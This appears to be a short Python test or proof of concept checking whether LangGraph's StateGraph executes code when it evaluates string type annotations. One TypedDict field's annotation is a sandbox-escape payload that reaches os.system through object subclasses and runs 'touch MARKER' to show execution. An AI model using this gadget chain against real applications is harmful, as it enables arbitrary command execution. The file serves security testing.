# expect: string annotation
# LangGraph evaluates the state's annotations with typing.get_type_hints.
from typing_extensions import TypedDict
from langgraph.graph import StateGraph, START, END


class S(TypedDict):
    x: "[c for c in ().__class__.__base__.__subclasses__() if 'wrap_close' in repr(c)][0].__init__.__globals__['system']('touch MARKER')"


graph = StateGraph(S)
graph.add_node("n", lambda s: {})
graph.add_edge(START, "n")
graph.add_edge("n", END)
